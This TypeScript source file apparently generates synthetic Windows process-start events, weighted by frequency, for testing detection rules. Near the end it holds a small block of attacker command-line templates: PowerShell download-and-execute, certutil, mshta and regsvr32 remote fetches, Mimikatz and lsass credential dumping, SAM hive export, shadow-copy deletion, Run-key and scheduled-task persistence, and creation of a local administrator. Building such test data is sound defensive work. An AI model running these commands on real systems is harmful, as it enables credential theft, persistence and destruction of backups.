import type { Random } from "./random.ts";

/** What starts on Windows machines: ordinary programs, and now and then what an attacker would start. */
export interface Program {
  /** How often, in relation to the others. */
  readonly weight: number;
  readonly image: string;
  readonly parents: readonly string[];
  /** Templates for `Random.fill`. */
  readonly commandLines: readonly string[];
  readonly original: string;
  readonly company: string;
}

const system = String.raw`C:\Windows\System32`;
const microsoft = "Microsoft Corporation";
const explorer = String.raw`C:\Windows\explorer.exe`;
const cmd = `${system}\\cmd.exe`;
const powershell = `${system}\\WindowsPowerShell\\v1.0\\powershell.exe`;
const services = `${system}\\services.exe`;
const svchost = `${system}\\svchost.exe`;

function program(
  weight: number,
  image: string,
  parents: readonly string[],
  commandLines: readonly string[],
  company = microsoft,
): Program {
  return { weight, image, parents, commandLines, original: image.slice(image.lastIndexOf("\\") + 1), company };
}

export const programs: readonly Program[] = [
  program(
    120,
    svchost,
    [services],
    [
      `${svchost} -k netsvcs -p -s Schedule`,
      `${svchost} -k LocalServiceNetworkRestricted -p`,
      `${svchost} -k netsvcs -p -s BITS`,
      `${svchost} -k UnistackSvcGroup`,
      `${svchost} -k wsappx -p -s ClipSVC`,
    ],
  ),
  program(
    90,
    String.raw`C:\Program Files\Google\Chrome\Application\chrome.exe`,
    [explorer, String.raw`C:\Program Files\Google\Chrome\Application\chrome.exe`],
    [
      String.raw`"C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer --lang=en-US --num-raster-threads=4 --enable-main-frame-before-activation --renderer-client-id={number} --time-ticks-at-unix-epoch=-{hex} --mojo-platform-channel-handle={number} /prefetch:1`,
      String.raw`"C:\Program Files\Google\Chrome\Application\chrome.exe" --type=utility --utility-sub-type=network.mojom.NetworkService --lang=en-US --service-sandbox-type=none --mojo-platform-channel-handle={number} /prefetch:8`,
      String.raw`"C:\Program Files\Google\Chrome\Application\chrome.exe" https://www.{domain}/{word}/{word}.html`,
    ],
    "Google LLC",
  ),
  program(
    70,
    String.raw`C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe`,
    [explorer],
    [
      String.raw`"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe" --type=gpu-process --gpu-preferences={base64} --mojo-platform-channel-handle={number} /prefetch:2`,
      String.raw`"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe" --profile-directory=Default --single-argument https://{domain}/{word}`,
    ],
  ),
  program(
    60,
    `${system}\\conhost.exe`,
    [cmd, powershell],
    [String.raw`\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1`],
  ),
  program(
    50,
    cmd,
    [explorer, svchost, String.raw`C:\Program Files\nodejs\node.exe`],
    [
      String.raw`C:\Windows\system32\cmd.exe /c "C:\Scripts\{word}.bat" {word} {number}`,
      String.raw`"C:\Windows\System32\cmd.exe"`,
      String.raw`C:\Windows\system32\cmd.exe /d /s /c "npm run {word}"`,
      String.raw`cmd.exe /c dir D:\Data\{word} /b /a-d`,
    ],
  ),
  program(
    40,
    powershell,
    [explorer, svchost, cmd],
    [
      String.raw`powershell.exe -NoProfile -File C:\Scripts\{word}\{word}.ps1 -Server {host} -Days {number}`,
      String.raw`"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -Command "Get-Service | Where-Object Status -eq Running | Export-Csv D:\Reports\{word}.csv"`,
      String.raw`powershell.exe -ExecutionPolicy RemoteSigned -Command "& 'C:\ProgramData\{word}\inventory.ps1'"`,
    ],
  ),
  program(
    35,
    `${system}\\taskhostw.exe`,
    [svchost],
    ["taskhostw.exe {guid}", "taskhostw.exe KEYROAMING", "taskhostw.exe SYSTEM"],
  ),
  program(
    35,
    `${system}\\backgroundTaskHost.exe`,
    [svchost],
    [String.raw`"C:\Windows\system32\backgroundTaskHost.exe" -ServerName:App.AppX{hex}.mca`],
  ),
  program(
    30,
    `${system}\\wbem\\WmiPrvSE.exe`,
    [svchost],
    [String.raw`C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding`],
  ),
  program(
    30,
    `${system}\\RuntimeBroker.exe`,
    [svchost],
    [String.raw`C:\Windows\System32\RuntimeBroker.exe -Embedding`],
  ),
  program(
    30,
    String.raw`C:\Program Files\Git\cmd\git.exe`,
    [String.raw`C:\Users\dev\AppData\Local\Programs\Microsoft VS Code\Code.exe`, cmd],
    [
      "git.exe status -z -uall",
      "git fetch --all --prune",
      "git.exe rev-parse --show-toplevel",
      'git commit -m "{word} {word} {word}"',
    ],
    "The Git Development Community",
  ),
  program(
    25,
    String.raw`C:\Program Files\nodejs\node.exe`,
    [cmd],
    [
      String.raw`"C:\Program Files\nodejs\node.exe" C:\src\{word}\node_modules\.bin\tsc -p . --noEmit`,
      String.raw`node --test C:\src\{word}\{word}.test.js`,
    ],
    "OpenJS Foundation",
  ),
  program(
    25,
    String.raw`C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`,
    [explorer],
    [
      String.raw`"C:\Program Files\Microsoft Office\Root\Office16\WINWORD.EXE" /n "C:\Users\{user}\Documents\{word} {word}.docx" /o ""`,
    ],
  ),
  program(
    25,
    String.raw`C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE`,
    [explorer],
    [String.raw`"C:\Program Files\Microsoft Office\Root\Office16\OUTLOOK.EXE" /recycle`],
  ),
  program(
    20,
    String.raw`C:\Program Files\Java\jdk-17\bin\java.exe`,
    [services],
    [
      String.raw`"C:\Program Files\Java\jdk-17\bin\java.exe" -Xmx2048m -Dspring.profiles.active={word} -Dserver.port={number} -cp D:\apps\{word}\lib\* com.{word}.{word}.Main`,
    ],
    "Oracle Corporation",
  ),
  program(
    20,
    `${system}\\msiexec.exe`,
    [services, explorer],
    [
      String.raw`C:\Windows\system32\msiexec.exe /V`,
      String.raw`msiexec.exe /i "C:\Users\{user}\Downloads\{word}-{number}.msi" /qn`,
    ],
  ),
  program(
    20,
    `${system}\\SearchProtocolHost.exe`,
    [`${system}\\SearchIndexer.exe`],
    [
      String.raw`"C:\Windows\system32\SearchProtocolHost.exe" Global\UsGthrFltPipeMssGthrPipe{number}_ Global\UsGthrCtrlFltPipeMssGthrPipe{number} 1 -2147483646 "Software\Microsoft\Windows Search"`,
    ],
  ),
  program(
    15,
    `${system}\\rundll32.exe`,
    [explorer, svchost],
    [
      String.raw`C:\Windows\system32\rundll32.exe C:\Windows\system32\PcaSvc.dll,PcaPatchSdbTask`,
      String.raw`rundll32.exe Startupscan.dll,SusRunTask`,
    ],
  ),
  program(
    15,
    `${system}\\sc.exe`,
    [cmd, `${system}\\taskhostw.exe`],
    [String.raw`C:\Windows\system32\sc.exe start w32time task_started`],
  ),
  program(15, `${system}\\schtasks.exe`, [cmd], [String.raw`schtasks.exe /query /fo LIST /tn "\{word}\{word}"`]),
  program(
    12,
    `${system}\\net.exe`,
    [cmd],
    [String.raw`net use Z: \\{host}\share /persistent:no`, "net time", "net start {word}"],
  ),
  program(12, `${system}\\reg.exe`, [cmd], [String.raw`reg query "HKLM\SOFTWARE\{word}\{word}" /v Version`]),
  program(10, `${system}\\ipconfig.exe`, [cmd], ["ipconfig /all", "ipconfig /flushdns"]),
  program(10, `${system}\\PING.EXE`, [cmd], ["ping -n 1 {host}", "ping {ip}"]),
  program(
    10,
    String.raw`C:\Program Files\7-Zip\7z.exe`,
    [cmd, explorer],
    [String.raw`"C:\Program Files\7-Zip\7z.exe" a D:\Backup\{word}.zip D:\Data\{word}\*`],
    "Igor Pavlov",
  ),
  program(
    8,
    String.raw`C:\Users\dev\AppData\Local\Microsoft\Teams\current\Teams.exe`,
    [explorer],
    [
      String.raw`"C:\Users\{user}\AppData\Local\Microsoft\Teams\current\Teams.exe" --type=renderer --autoplay-policy=no-user-gesture-required --field-trial-handle={number}`,
    ],
  ),

  // What rules are for: about three in a hundred.
  program(3, `${system}\\whoami.exe`, [cmd, powershell], ["whoami /all", "whoami /priv", "whoami"]),
  program(
    3,
    powershell,
    [cmd, explorer, String.raw`C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`],
    [
      "powershell.exe -nop -w hidden -enc {base64}",
      String.raw`powershell -ep bypass -c "IEX (New-Object Net.WebClient).DownloadString('http://{ip}/{word}.ps1')"`,
      String.raw`powershell.exe -Command "Invoke-Mimikatz -DumpCreds"`,
    ],
  ),
  program(
    2,
    `${system}\\certutil.exe`,
    [cmd],
    [
      String.raw`certutil.exe -urlcache -split -f http://{ip}/{word}.exe C:\Users\Public\{word}.exe`,
      String.raw`certutil -decode C:\Temp\{word}.txt C:\Temp\{word}.exe`,
    ],
  ),
  program(2, `${system}\\vssadmin.exe`, [cmd], ["vssadmin.exe delete shadows /all /quiet"]),
  program(
    2,
    `${system}\\rundll32.exe`,
    [cmd],
    [
      String.raw`rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump {number} C:\Temp\lsass.dmp full`,
      String.raw`rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";alert({number})`,
    ],
  ),
  program(
    2,
    `${system}\\reg.exe`,
    [cmd],
    [
      String.raw`reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v {word} /t REG_SZ /d C:\Users\Public\{word}.exe /f`,
      String.raw`reg save HKLM\SAM C:\Temp\sam.hive`,
    ],
  ),
  program(
    2,
    `${system}\\schtasks.exe`,
    [cmd, powershell],
    [
      String.raw`schtasks /create /sc minute /mo 5 /tn {word} /tr "powershell.exe -w hidden -f C:\Users\Public\{word}.ps1" /ru SYSTEM`,
    ],
  ),
  program(
    2,
    `${system}\\net1.exe`,
    [`${system}\\net.exe`],
    [
      String.raw`C:\Windows\system32\net1 user {word} P@ss{number} /add`,
      String.raw`C:\Windows\system32\net1 localgroup administrators {word} /add`,
    ],
  ),
  program(2, `${system}\\mshta.exe`, [explorer], ["mshta.exe http://{domain}/{word}.hta"]),
  program(2, `${system}\\regsvr32.exe`, [cmd], ["regsvr32 /s /n /u /i:http://{ip}/{word}.sct scrobj.dll"]),
  program(
    1,
    String.raw`C:\Users\Public\Downloads\{word}.exe`,
    [explorer],
    [String.raw`C:\Users\Public\Downloads\{word}.exe -{word} sekurlsa::logonpasswords`],
    "-",
  ),
];

const totalWeight = programs.reduce((sum, { weight }) => sum + weight, 0);

export function anyProgram(random: Random): Program {
  let left = random.below(totalWeight);
  for (const program of programs) {
    left -= program.weight;
    if (left < 0) return program;
  }
  throw new Error("weights do not add up");
}
